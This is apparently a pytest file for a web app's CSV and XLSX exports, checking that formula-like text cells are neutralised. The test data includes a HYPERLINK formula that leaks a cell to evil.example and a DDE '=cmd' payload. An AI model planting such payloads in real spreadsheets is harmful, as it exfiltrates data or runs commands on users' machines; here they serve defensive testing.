"""Exports never carry a live formula: text cells starting with = + - @ tab or CR are written as text
(CSV prefixed with a quote, XLSX typed as a string), numbers stay numbers (issue 14, point 6)."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from core.services import audit_export
from core.services.reports import exports
from core.services.spreadsheet_cells import csv_cell, is_formula_like
from tests.clients_data import make_client
from tests.compliance_helpers import load, new_assessment
from tests.conftest import post

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_formula_in_xlsx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in book.read(name).decode() and "<f " not in book.read(name).decode()


@pytest.mark.parametrize("value", [EVIL, "+32 470", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_formula_like_text_is_prefixed(value):
    assert is_formula_like(value) and csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "12", "+5", "Amina", "", 7, None, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_client_export_writes_a_formula_name_as_text(as_user, staff_a, fmt):
    make_client(staff_a, last_name=EVIL, first_name="@cmd", national_number="", phone="+32 470 12 34 56")
    client = as_user(staff_a.officer)
    started = post(client, "/clients/exports", {"format": fmt}, token_from="/clients/",
                   headers={"HX-Request": "true"})
    export_url = re.search(r'hx-get="(/clients/exports/\d+)"', started.get_data(as_text=True)).group(1)
    for _ in range(3):
        client.get(export_url, headers={"HX-Request": "true"})
    download = client.get(export_url + "/download")
    assert download.status_code == 200
    if fmt == "csv":
        row = _csv(download.data)[1]
        assert row[1] == "'" + EVIL and row[2] == "'@cmd" and row[7] == "'+32 470 12 34 56"
        assert row[0].isdigit()  # the id stays a number
    else:
        _no_formula_in_xlsx(download.data)
        cells = list(load_workbook(io.BytesIO(download.data)).active.iter_rows(min_row=2))[0]
        assert cells[1].value == EVIL and cells[1].data_type == "s"
        assert isinstance(cells[0].value, int)


def test_report_exports_neutralise_text_and_keep_negative_amounts_as_numbers():
    sheets = {"impact": (["section", "key", "persons", "amount"],
                         [["sectors", EVIL, 1, "-12.50"], ["regions", "-brussels", 0, "0.00"]])}
    rows = list(csv.reader(io.StringIO(exports.to_csv(sheets))))
    # An unknown item (no label) is written as its code in both columns, neutralised in both.
    assert rows[1] == ["Impact", "impact", "Sectors", "sectors", "'" + EVIL, "'" + EVIL, "1", "-12.50"]
    assert rows[2][4:6] == ["'-brussels", "'-brussels"]
    data = exports.to_xlsx(sheets)
    _no_formula_in_xlsx(data)
    sheet = load_workbook(io.BytesIO(data))["Impact"]
    for cell in ("C2", "D2"):
        assert sheet[cell].value == EVIL and sheet[cell].data_type == "s"
    assert sheet["F2"].value == -12.5 and sheet["F2"].data_type == "n"


def test_report_download_over_http_has_no_formula(as_user, staff_a):
    client = as_user(staff_a.officer)
    response = client.get("/reports/impact?format=xlsx")
    assert response.status_code == 200
    _no_formula_in_xlsx(response.data)


def test_compliance_csv_passes_a_formula_comment_as_text(app, as_user, staff_a):
    from core import tenancy
    from core.services.compliance import assessments

    catalogue = load([("1.1", "1", True, "all")])
    assessment = new_assessment(staff_a, catalogue)
    with tenancy.acting_for(staff_a.institution_id):
        assessments.save_answer(assessment=assessment, clause=catalogue.clauses[0], by=staff_a.admin,
                                answer="met", comment=EVIL, reason="")
    client = as_user(staff_a.admin)
    response = client.get(f"/compliance/assessments/{assessment.id}/export.csv")
    assert response.status_code == 200
    row = _csv(response.data)[1]
    assert row[7] == "'" + EVIL
    assert EVIL not in [cell for r in _csv(response.data) for cell in r]


def test_audit_trail_csv_for_the_admin_only(app, as_user, staff_a, staff_b):
    make_client(staff_a, last_name=EVIL, national_number="")
    make_client(staff_b, last_name="Hefboomonly", national_number="")
    client = as_user(staff_a.admin)
    response = client.get("/admin/audit.csv?record_type=clients")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _csv(response.data)
    assert rows[0] == ["Entry", "When", "Who", "What", "What (code)", "Record", "Record (code)", "Record number",
                       "Changes", "Changes (code)"]
    created = [r for r in rows[1:] if r[4] == "create"]
    assert created and created[0][3] == "created" and created[0][5:7] == ["Client", "clients"]
    assert any("HYPERLINK" in r[8] and "HYPERLINK" in r[9] for r in rows[1:])  # in words and in the JSON text
    assert "Hefboomonly" not in response.get_data(as_text=True)
    officer = app.test_client()
    from tests.conftest import login

    login(officer, staff_a.officer)
    assert officer.get("/admin/audit.csv").status_code == 403


def test_audit_csv_neutralises_every_text_column():
    from datetime import datetime, timezone

    from core.models.audit import AuditEntry

    entry = AuditEntry(id=1, at=datetime(2026, 1, 1, tzinfo=timezone.utc), actor="=cmd|' /C calc'!A0",
                       action="update", record_type="@clients", record_id=None, changes={})
    row = list(csv.reader(io.StringIO(audit_export.to_csv([entry]))))[1]
    assert row[2] == "'=cmd|' /C calc'!A0" and row[5:7] == ["'@clients", "'@clients"] and row[0] == "1"
